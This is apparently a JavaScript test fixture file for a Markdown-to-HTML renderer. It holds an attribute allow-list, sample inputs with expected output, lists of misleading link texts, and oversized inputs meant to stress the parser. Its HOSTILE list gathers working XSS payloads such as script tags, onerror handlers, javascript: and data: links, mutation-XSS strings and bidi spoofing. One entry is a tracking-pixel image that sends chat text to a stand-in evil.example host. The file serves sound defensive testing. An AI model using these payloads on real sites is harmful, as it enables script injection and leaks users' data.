// Texts for `markdown.mjs`: what an answer may become on a page, what means harm, and what takes long.

const repeated = (text, length) => text.repeat(Math.ceil(length / text.length)).slice(0, length);

/** What may stand in an answer: element names, and patterns of each attribute's values. */
export const ALLOWED = {
  elements: [..."p br strong em s code pre blockquote ul ol li h4 hr table thead tbody tr th td a".split(" "), "div", "span", "button"],
  attributes: {
    href: ["https?:\\/\\/.*", "mailto:.*"],
    target: ["_blank"],
    rel: ["noopener noreferrer nofollow"],
    title: [".*"],
    "data-host": [".*"],
    "data-side": ["start|center|end"],
    dir: ["auto|ltr"],
    start: ["\\d+"],
    tabindex: ["0"],
    role: ["region"],
    "aria-label": ["(?:Code|Table)[^]*"],
    class: ["code|bar|copy|table|plain"],
    type: ["button"],
  },
};

export const RICH = {
  text: `# A heading with **weight**

Some *text* with \`code\`, ~~gone~~, a [link](https://example.com/a?b=c&d=e "title"), https://bare.example/x. And &amp; &copy; &#8212; &unknown;
A second line, [docs](/relative), www.none.example, [ref], ![a picture](https://i.example/p.png) and [![in](https://i.example/q.png)](https://l.example/).

- one
- two
  - deep

3. three
4. four

\`\`\`py
print("<b>")
\`\`\`

| left | right |
|:-----|------:|
| 1 | **2** |

> a quote

See (https://p.example/a_(b)) and [https://bank.example](https://evil.example/x), [Node.js](https://nodejs.example/) [](https://empty.example/)

[ref]: https://ref.example/r
`,
  parts: [
    '<h4 dir="auto">A heading with <strong>weight</strong></h4>',
    "<em>text</em> with <code>code</code>, <s>gone</s>",
    '<a href="https://example.com/a?b=c&amp;d=e" target="_blank" rel="noopener noreferrer nofollow">link</a>',
    '<a href="https://bare.example/x" target="_blank" rel="noopener noreferrer nofollow">https://bare.example/x</a>. And &amp; © — &amp;unknown;<br>',
    "[docs](/relative), www.none.example, ",
    '<a href="https://ref.example/r" target="_blank" rel="noopener noreferrer nofollow">ref</a>',
    '<a href="https://i.example/p.png" target="_blank" rel="noopener noreferrer nofollow">Image: a picture</a>',
    '<a href="https://l.example/" target="_blank" rel="noopener noreferrer nofollow">Image: in</a>',
    '<ol start="3" dir="auto">',
    '<div class="bar"><span>py</span><button class="copy" type="button">Copy</button></div><pre ',
    '<pre dir="ltr" tabindex="0" role="region" aria-label="Code: py"><code>print("&lt;b&gt;")',
    '<div class="table" tabindex="0" role="region" aria-label="Table"><table dir="auto">',
    '<th data-side="start">left</th>',
    '<td data-side="end"><strong>2</strong></td>',
    '<blockquote dir="auto">',
    'title="https://evil.example/x" data-host="evil.example">https://bank.example</a>',
    '(<a href="https://p.example/a_(b)" target="_blank" rel="noopener noreferrer nofollow">https://p.example/a_(b)</a>)',
    '<a href="https://nodejs.example/" target="_blank" rel="noopener noreferrer nofollow">Node.js</a>',
    ">https://empty.example/</a>",
  ],
  absent: ["style=", "<img", "<h1", "title=\"title\"", "[ref]:"],
};

/** Well-meant Markdown, of which no mark is to be seen at any time. What a definition below it makes a link nobody can know. */
export const MARKED = `# Heading **one**

Some *text* with \`code\`, ~~gone~~ **and _both_ of them**, a [link](https://l.example/a(b)?c=d) and <https://v.example/p>, https://bare.example/x.html.

- **Bold** item: \`a+b\`
- [Link](https://l.example/2 "title") and ![picture](https://i.example/p.png)
  1. deep
  2. ***strong***

> A quote, **strong**,
> on two lines

| Head **one** | \`two\` |
|:-------------|--------:|
| *cell* | [link](https://l.example/3) |
| cell | **strong** |

~~~
code
~~~

Setext
------

[ref]: https://ref.example/r "title"

See [here][ref] and [ref].

***

A line that &amp; ends **strongly**`;

export const HOSTILE = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<style>*{display:none}</style>",
  '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
  "<x onclick=alert(1)>y</x>", "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<portico-chat></portico-chat>",
  "<![CDATA[<script>alert(1)</script>]]>", "<!-- <script>alert(1)</script> -->",
  "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))", "[a](&#106;avascript:alert(1))",
  "[a](javascript&colon;alert(1))", "[a](&#x6A&#x61vascript:alert(1))",
  "[a](\u0001javascript:alert(1))", "[a]( javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a](<java\nscript:alert(1)>)",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](data:image/png;base64,AAAA)", "[a](vbscript:msgbox(1))", "[a](file:///etc/passwd)", "[a](blob:https://x.example/1)",
  "[a](view-source:https://x.example)", "[a](//evil.example)",
  "[a](\\\\evil.example)", "[a](https:evil.example)", "[a](https://bank.example@evil.example/)", "[a](https://user:pass@evil.example/)",
  "<javascript:alert(1)>", "<data:text/html,x>",
  "[a][b]\n\n[b]: javascript:alert(1)", "[a][b]\n\n[b]: data:text/html,<script>alert(1)</script>", "![a](javascript:alert(1))",
  "![a](data:image/svg+xml,<svg onload=alert(1)>)",
  "![a](https://evil.example/pixel.png?what=was+said)", "![a][b]\n\n[b]: https://evil.example/pixel.png",
  "[a](https://x.example \"onmouseover=alert(1)\")", "[a](https://x.example/\"onmouseover=alert(1))",
  "[a](https://x.example/'><script>alert(1)</script>)", "[<img src=x onerror=alert(1)>](https://x.example)",
  "![\"onload=alert(1)](https://x.example)", "`<script>alert(1)</script>`",
  "```\"onload=alert(1)\nx\n```", "```</code></pre><script>alert(1)</script>\nx\n```", "```<img src=x onerror=alert(1)>\nx",
  "~~~html\n<script>alert(1)</script>", "```\nnever closed", "````\n```\n```",
  "**never closed", "[never closed](https://x.exa", "`never closed", "<https://never.closed", "| a | b\n|--",
  "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
  "# <script>alert(1)</script>", "- <script>alert(1)</script>", "> <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)", "\u0000<scr\u0000ipt>", "a\rb\r\nc\r",
  "\u202egnp.exe\u202c is safe", "[\u202emoc.knab\u202c](https://evil.example)", "\u2066x\u2069\u200b\ufeff",
  "مرحبا **بكم** في [الموقع](https://x.example)", "שלום `code` עולם",
  "中文**粗体**，链接https://x.example/路径。下一句", "👩‍👩‍👧‍👦 **👍🏽** e\u0301", "\ud800 lone \udc00",
  "__proto__ constructor [__proto__] [constructor]\n\n[__proto__]: https://x.example\n", "[toString] [hasOwnProperty]",
  "https://x.example/<script>", "https://x.example/\"onclick=\"alert(1)", "https://x.example/`x`", "mailto:a@b.example?subject=<script>",
  "javascript:alert(1)", "javascript://x.example/%0aalert(1)",
];

/** Texts of links to evil.test that may be taken for another address, and such that may not. */
export const MISLEADING = [
  "bank.com", "Bank.com", "www.bank.com", "https://ba\u200bnk.com/login", "https://b\u00adank.com",
  "https:\u2215\u2215bank.com", "https\uff1a//bank",
  "https://bank\u2024com", "https://bank\u3002com", "bank\u3002com", "evil.test https://bank.com", "evil.test,bank.com",
  "me@bank.com",
  "https://evil.test@bank.com/", "evil.test and bank.com", "https://bank", "10.0.0.1", "\uff42\uff41\uff4e\uff4b.com", "bänk.com",
  "银行.中国", "\u202emoc.knab",
  `${"a ".repeat(200)}bank.com`,
];
export const HONEST = [
  "here", "Node.js", "config.toml", "main.rs", "v1.2.3", "e.g. this", "Fig.2", "evil.test",
  "www.evil.test/a.b", "evil.test/bank.com", "文档。请看",
];

const lots = 200_000;
const numbered = (part) => Array.from({ length: 4000 }, (_, i) => part(i)).join("");
export const BOMBS = {
  quotes: repeated("> ", lots), angle: repeated(">", lots), lists: repeated("- ", lots),
  nested: Array.from({ length: 600 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n"),
  backticks: repeated("`", 10_000), uneven: Array.from({ length: 400 }, (_, i) => "`".repeat(i)).join(" "), brackets: repeated("[", lots),
  pairs: repeated("[](", lots), images: repeated("![", lots),
  stars: repeated("*a ", lots), mixed: repeated("*a_ ", lots), strikes: repeated("~~a", lots), less: repeated("<", lots),
  and: repeated("&", lots), addresses: repeated("http://a.b ", lots),
  schemes: repeated("http://", lots), oneLine: repeated("The quick brown fox. ", lots), oneWord: repeated("a", lots),
  spaces: `${" ".repeat(lots)}a`, tabs: `${"\t".repeat(lots)}a`,
  items: repeated("- a\n", 40_000), numbers: repeated("1. a\n", 40_000), rows: `|a|b|\n|-|-|\n${repeated("|1|2|\n", 60_000)}`,
  columns: `${repeated("|a", 40_000)}\n${repeated("|-", 40_000)}\n|b`,
  definitions: Array.from({ length: 3000 }, (_, i) => `[r${i}]\n\n[r${i}]: https://a.example/${i}\n\n`).join(""),
  headings: repeated("# a\n", 20_000), fences: repeated("```\na\n```\n", 20_000), escapes: repeated("\\", lots),
  breaks: `x${"\n".repeat(2500)}y`, spaced: `x${"\n ".repeat(30_000)}y`,
  paragraph: repeated("line of text\n", lots), under: repeated("_a", lots),
  links: repeated("[a](http://e.x) ", 96_000), openLinks: repeated("[a](", lots), imageWords: repeated("![a", lots), pipes: repeated("|", lots),
  uses: `${repeated("[x] ", 120_000)}\n\n[x]: http://e.x`,
  everything: repeated("*_`[<&~|>", 99_000),
  hosts: repeated("www.", lots),
  quoted: repeated('"a', lots), mails: repeated("mailto:a@", lots),
  bracketed: `http://a.com/${repeated("(", lots)}`, entities: repeated("&#x41;", 96_000),
  wide: `|${"a|".repeat(5000)}\n|${"-|".repeat(5000)}\n${`|${"x|".repeat(5000)}\n`.repeat(8)}`,
  filled: `|${"a|".repeat(1000)}\n|${"-|".repeat(1000)}\n${"|x\n".repeat(300)}`,
  later: `${numbered((i) => `[r${i}]: http://e.x/${i}\n`)}\n${numbered((i) => `[r${i}] `)}`,
};

export const LONG = repeated(`## Part

Some **bold** text and \`code\`, see [this](https://a.example/x) and https://b.example/y, 中文 and עברית.

- one
- two
  - three

\`\`\`js
const a = 1;
\`\`\`

| a | b |
|---|--:|
| 1 | 2 |

${repeated("The quick brown fox jumps over the lazy dog. ", 4000)}

`, 200_000);
